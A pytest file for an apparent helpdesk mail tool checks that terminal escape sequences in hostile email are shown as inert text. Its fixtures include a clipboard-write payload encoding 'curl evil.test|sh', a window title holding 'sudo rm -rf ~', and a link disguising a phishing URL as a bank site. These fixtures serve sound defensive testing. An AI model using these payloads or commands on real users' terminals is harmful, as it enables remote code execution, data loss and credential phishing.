"""Terminal escapes in client mail: what the command line prints from mail reaches the
agent's terminal (a pseudo-terminal here, as an agent's shell has) with every control
sequence shown as text — no clipboard write (OSC 52), no disguised link (OSC 8), no
window title (OSC 0), no cursor movement or hidden text (CSI, also as C1 bytes), no
line written over (CR), no reordered text (bidi overrides) — and ``--json`` keeps the
exact text, escaped as JSON."""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import pytest

from mailgate.config import config_from_toml
from mailgate.envelope import Envelope
from mailgate.inbox import store_messages
from mailgate.process import Processor
from mailgate.store.engine import Store
from mailgate.store.migrate import upgrade
from tests.support.cli import in_terminal
from tests.support.config import make_toml
from tests.support.mailfactory import nested

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2gK\x07"  # "curl evil.test|sh" to paste
TITLE = "\x1b]0;sudo rm -rf ~\x07"
LINK = "\x1b]8;;https://evil.test/login\x1b\\https://bank.test/\x1b]8;;\x1b\\"
SCREEN = "\x1b[2J\x1b[H\x1b[8m"  # clear, cursor home, hidden text
C1 = "\x9b2J\x9d0;title\x9c"  # the same as 8-bit controls (CSI, OSC, ST)
OVERWRITE = "Your order is fine\rYour account is locked"
BIDI = "invoice\u202egpj.exe \u2067isolated\u2069"

SUBJECT = f"Printer {CLIPBOARD}{TITLE}broken {C1}"
NAME = f"Jo {LINK}"
# A display name is one line of text: the parser reads its control characters as spaces
# (one space for a run).
PARSED_NAME = re.sub(r" +", " ", re.sub(r"[\x00-\x1f\x7f-\x9f]", " ", NAME))
BODY = f"Hello,\n{SCREEN}the printer fails.\n{OVERWRITE}\n{BIDI}\nBell\x07 and DEL\x7f.\n"
SENDER = f"jo{TITLE}\r@client.test"

# Our own colours (click.style): bold, dim, reset, foreground colours.
SGR = re.compile(r"\x1b\[(?:0|1|2|22|3[0-9]|39)?m")
TEXT = BODY.replace("\r", "\n").strip("\n")  # the text as the parser reads it
BIDI_CONTROLS = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def encoded(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def hostile(message_id: str, extra: str = "") -> bytes:
    return (
        f"From: {encoded(NAME)} <jo@client.test>\r\nTo: support@helpdesk.test\r\n"
        f"Subject: {encoded(SUBJECT)}\r\nMessage-ID: <{message_id}>\r\nMIME-Version: 1.0\r\n"
        + extra
        + "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(BODY.encode()).decode().replace("\n", "\r\n")
    ).encode()


def harmful(out: str, *, colours: bool = False) -> list[str]:
    """The characters in ``out`` a terminal would act on (line ends and tabs aside; with
    ``colours``, the command's own colour sequences aside)."""
    if colours:
        out = SGR.sub("", out)
    return [
        f"U+{ord(ch):04X}"
        for ch in out
        if (ord(ch) < 0x20 and ch not in "\n\t") or 0x7F <= ord(ch) < 0xA0 or ch in BIDI_CONTROLS
    ]


@pytest.fixture
def helpdesk(tmp_path: Path) -> tuple[str, int]:
    """Ticket 1 opened by the hostile mail; a hostile message quarantined (over the
    nesting limit, its envelope sender hostile too); the configuration, the latter's
    inbox id."""
    text = make_toml(tmp_path)
    config = config_from_toml(text, "<test>")
    store = Store(config.database)
    upgrade(store)
    envelope = Envelope("smtp", "jo@client.test", ("support@helpdesk.test",), "127.0.0.1")
    store_messages(store, [(envelope, hostile("first@client.test"))])
    deep = hostile("deep@client.test").replace(b"Content-Type: text/plain", nested(30), 1)
    [held] = store_messages(
        store, [(Envelope("smtp", SENDER, ("support@helpdesk.test",), "127.0.0.1"), deep)]
    )
    Processor(config, store).drain()
    store.dispose()
    (tmp_path / "hostile.eml").write_bytes(hostile("file@client.test"))
    return text, held.inbox_id


@pytest.mark.parametrize(
    "command",
    ["ticket 1", "ticket 1 --full", "parse hostile.eml", "explain {held}"],
)
def test_mail_reaches_the_terminal_with_its_control_sequences_shown_as_text(
    tmp_path: Path, helpdesk: tuple[str, int], command: str
) -> None:
    text, held = helpdesk
    args = [
        str(tmp_path / a) if a.endswith(".eml") else a for a in command.format(held=held).split()
    ]
    code, out = in_terminal(tmp_path, text, *args, columns=200)
    assert code == 0, out
    assert harmful(out) == [], out
    if args[0] in ("ticket", "parse"):
        # The agent sees that something was there, and the mail's words.
        assert "Printer \\u001b]52;c;Y3VybCBldmlsLnRlc3R8c2gK\\u0007" in out
        assert "\\u202egpj.exe" in out
        assert "Your account is locked" in out  # on a line of its own (the parser's)
        assert "the printer fails." in out
    if args[0] == "explain":
        assert "jo\\u001b]0;sudo rm -rf ~\\u0007\\u000d@client.test" in out


@pytest.mark.parametrize("command", ["tickets", "quarantine"])
def test_tables_on_a_terminal_hold_only_their_own_colours(
    tmp_path: Path, helpdesk: tuple[str, int], command: str
) -> None:
    text, _held = helpdesk
    code, out = in_terminal(tmp_path, text, command, columns=200)
    assert code == 0, out
    assert SGR.search(out), "a terminal gets colour"
    assert harmful(out, colours=True) == [], out
    assert "\x1b[8m" not in out
    assert "Printer" in out


@pytest.mark.parametrize(
    "command", ["ticket 1 --json", "parse hostile.eml --json", "quarantine --json"]
)
def test_json_keeps_the_exact_text_escaped(
    tmp_path: Path, helpdesk: tuple[str, int], command: str
) -> None:
    text, _held = helpdesk
    args = [str(tmp_path / a) if a.endswith(".eml") else a for a in command.split()]
    code, out = in_terminal(tmp_path, text, *args)
    assert code == 0, out
    assert harmful(out) == [], out
    doc = json.loads(out)
    if args[0] == "quarantine":
        [message] = doc["messages"]
        assert message["subject"] == SUBJECT
        return
    assert doc["subject"] == SUBJECT
    if args[0] == "ticket":
        assert doc["messages"][0]["from"]["name"] == PARSED_NAME
        assert doc["messages"][0]["text"] == TEXT
    else:
        assert doc["from"]["name"] == PARSED_NAME
        assert doc["text"] == TEXT
